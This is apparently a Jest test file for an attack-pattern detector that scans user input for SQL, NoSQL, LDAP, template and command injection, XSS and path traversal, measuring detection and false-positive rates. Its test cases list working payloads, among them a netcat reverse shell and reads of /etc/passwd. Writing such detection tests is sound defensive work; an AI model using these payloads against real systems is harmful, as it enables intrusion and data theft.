import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ATTACK_CATEGORIES, AttackCategory, SEVERITIES } from './attack-pattern';
import { ATTACK_PATTERNS } from './attack-pattern-catalogue';
import { AttackPatternDetector, MAX_EXCERPT_LENGTH } from './attack-pattern-detector';
import { normaliseForScanning } from './scan-text-normaliser';

interface LabelledPayload {
  category: AttackCategory;
  payload: string;
}

// One sample per non-empty line and no comment syntax: any prefix would collide with a real sample
// ("#Alive" is a film title).
function corpusLines(fileName: string): string[] {
  return readFileSync(join(__dirname, 'corpus', fileName), 'utf8')
    .split('\n')
    .filter((line) => line.length > 0);
}

function loadAttackCorpus(): LabelledPayload[] {
  return corpusLines('attacks.txt').map((line) => {
    const tab = line.indexOf('\t');
    const category = line.slice(0, tab) as AttackCategory;
    if (tab < 0 || !ATTACK_CATEGORIES.includes(category)) throw new Error(`bad corpus line: ${line}`);
    return { category, payload: line.slice(tab + 1) };
  });
}

function categoriesFound(detector: AttackPatternDetector, text: string): AttackCategory[] {
  return [...new Set(detector.scan(text).map((match) => match.category))];
}

const percent = (part: number, whole: number): string => `${((100 * part) / whole).toFixed(1)}%`;

describe('AttackPatternDetector on the corpus', () => {
  const detector = new AttackPatternDetector();
  const attacks = loadAttackCorpus();
  const benign = corpusLines('benign.txt');

  it('has a corpus of the advertised size and spread', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(200);
    expect(benign.length).toBeGreaterThanOrEqual(300);
    for (const category of ATTACK_CATEGORIES) {
      expect(attacks.filter((attack) => attack.category === category).length).toBeGreaterThanOrEqual(20);
    }
  });

  it('detects at least 95% of attacks in their own category and flags at most 1% of benign text', () => {
    const anyMatch = attacks.filter(({ payload }) => detector.scan(payload).length > 0);
    const rightCategory = attacks.filter(({ category, payload }) =>
      categoriesFound(detector, payload).includes(category),
    );
    const falsePositives = benign.filter((text) => detector.scan(text).length > 0);

    const byCategory = ATTACK_CATEGORIES.map((category) => {
      const ofCategory = attacks.filter((attack) => attack.category === category);
      const found = rightCategory.filter((attack) => attack.category === category);
      return `${category} ${found.length}/${ofCategory.length}`;
    });
    const missed = attacks.filter((attack) => !rightCategory.includes(attack));
    console.log(
      [
        `attack-pattern corpus: ${ATTACK_PATTERNS.length} patterns`,
        `detection (right category): ${rightCategory.length}/${attacks.length} = ${percent(rightCategory.length, attacks.length)}`,
        `detection (any match):      ${anyMatch.length}/${attacks.length} = ${percent(anyMatch.length, attacks.length)}`,
        `false positives:            ${falsePositives.length}/${benign.length} = ${percent(falsePositives.length, benign.length)}`,
        `per category: ${byCategory.join(', ')}`,
        `missed: ${missed.map((attack) => JSON.stringify(attack.payload)).join(' ')}`,
        `benign flagged: ${falsePositives.map((text) => JSON.stringify(text)).join(' ')}`,
      ].join('\n'),
    );

    expect(rightCategory.length / attacks.length).toBeGreaterThanOrEqual(0.95);
    expect(falsePositives.length / benign.length).toBeLessThanOrEqual(0.01);
  });
});

describe('the pattern catalogue', () => {
  it('has at least 30 patterns covering every category', () => {
    expect(ATTACK_PATTERNS.length).toBeGreaterThanOrEqual(30);
    for (const category of ATTACK_CATEGORIES) {
      expect(ATTACK_PATTERNS.some((pattern) => pattern.category === category)).toBe(true);
    }
  });

  it('gives every pattern a unique, well-formed id, a known severity and a description', () => {
    const ids = ATTACK_PATTERNS.map((pattern) => pattern.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const pattern of ATTACK_PATTERNS) {
      expect(pattern.id).toMatch(/^(SQLI|XSS|PATH|CMD|NOSQL|LDAP|SSTI)-\d{3}$/);
      expect(SEVERITIES).toContain(pattern.severity);
      expect(pattern.description.length).toBeGreaterThan(10);
    }
  });

  it('uses neither the global nor the sticky flag, whose lastIndex would make exec depend on the previous call', () => {
    for (const pattern of ATTACK_PATTERNS) expect(pattern.regex.flags).not.toMatch(/[gy]/);
  });

  it.each(ATTACK_PATTERNS.map((pattern) => [pattern.id, pattern] as const))(
    '%s matches each of its own examples',
    (_id, pattern) => {
      expect(pattern.examples.length).toBeGreaterThan(0);
      for (const example of pattern.examples)
        expect(pattern.regex.test(normaliseForScanning(example))).toBe(true);
    },
  );
});

describe('detection per category', () => {
  const detector = new AttackPatternDetector();

  it.each<[AttackCategory, string]>([
    ['sql-injection', "' OR '1'='1' --"],
    ['sql-injection', '1 UNION ALL SELECT username, password FROM users'],
    ['sql-injection', "'; DROP TABLE viewers; --"],
    ['sql-injection', "1' AND SLEEP(5)#"],
    ['xss', '<script>alert(document.cookie)</script>'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['xss', '<a href="javascript:alert(1)">x</a>'],
    ['path-traversal', '../../../../etc/passwd'],
    ['path-traversal', '..\\..\\windows\\win.ini'],
    ['path-traversal', 'php://filter/convert.base64-encode/resource=index.php'],
    ['command-injection', '; cat /etc/passwd'],
    ['command-injection', '$(whoami)'],
    ['command-injection', '`id`'],
    ['command-injection', '| nc -e /bin/sh 10.0.0.1 4444'],
    ['nosql-injection', '{"password": {"$ne": null}}'],
    ['nosql-injection', 'password[$regex]=.*'],
    ['nosql-injection', "'; return true; var a='"],
    ['ldap-injection', '*)(uid=*))(|(uid=*'],
    ['ldap-injection', '(|(objectclass=*)(cn=*))'],
    ['template-injection', '{{7*7}}'],
    ['template-injection', '${7*7}'],
    ['template-injection', "<%= system('id') %>"],
    ['template-injection', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ])('%s: %s', (category, payload) => {
    expect(categoriesFound(detector, payload)).toContain(category);
  });

  it.each([
    'Drop Dead Gorgeous',
    'Select',
    'Union Station',
    'Or',
    "Conan O'Brien",
    "D'Angelo",
    'Tom & Jerry',
    'Law & Order: Special Victims Unit',
    'JavaScript: The Good Parts',
    'I paid $12.99; that is too much.',
    'Great show; cat lovers will adore it.',
    'Movies, series & more',
    'Alert (2019)',
    'Sleep (2023)',
    'Price per month: £7.99; per year: £79.90',
    'Hello {{name}}, your trial ends soon',
    'Once Upon a Time... in Hollywood',
    'Subtitles: EN | FR | SH',
    'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36',
  ])('does not flag %s', (text) => {
    expect(detector.scan(text)).toEqual([]);
  });
});

describe('AttackPatternDetector results', () => {
  const detector = new AttackPatternDetector();

  it('reports pattern id, category, severity and an excerpt of the normalised text', () => {
    const [match] = detector.scan('Search for %3Cscript%3Ealert(1)%3C%2Fscript%3E please');
    expect(match).toEqual({
      patternId: 'XSS-001',
      category: 'xss',
      severity: 'high',
      excerpt: expect.stringContaining('<script>alert(1)'),
    });
  });

  it('reports each pattern once per field even when it matches many times', () => {
    const matches = detector.scan('<script>1</script> <script>2</script> <script>3</script>');
    const ids = matches.map((match) => match.patternId);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('bounds the excerpt however long the match or the text around it', () => {
    const longPayload = `${'a'.repeat(500)} ' union select ${'x,'.repeat(2000)}1 from users ${'b'.repeat(500)}`;
    const matches = detector.scan(longPayload);
    expect(matches.length).toBeGreaterThan(0);
    for (const match of matches) expect(match.excerpt.length).toBeLessThanOrEqual(MAX_EXCERPT_LENGTH);
  });

  it('returns no matches for empty text', () => {
    expect(detector.scan('')).toEqual([]);
  });

  it('names the field of each match in scanFields and skips values that are not strings', () => {
    const fields = {
      userAgent: 'Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36',
      title: "Schindler's List",
      search: "' UNION SELECT password FROM users--",
      'data.comment': '<svg onload=alert(1)>',
      'data.count': 42 as unknown as string,
    };
    const matches = detector.scanFields(fields);
    expect(new Set(matches.map((match) => match.field))).toEqual(new Set(['search', 'data.comment']));
    expect(matches.find((match) => match.field === 'search')?.category).toBe('sql-injection');
    expect(matches.find((match) => match.field === 'data.comment')?.category).toBe('xss');
  });

  it('can be given its own pattern list', () => {
    const onlyTemplates = new AttackPatternDetector(
      ATTACK_PATTERNS.filter((pattern) => pattern.category === 'template-injection'),
    );
    expect(onlyTemplates.scan("' or 1=1 -- {{7*7}}").map((match) => match.category)).toEqual([
      'template-injection',
    ]);
  });
});
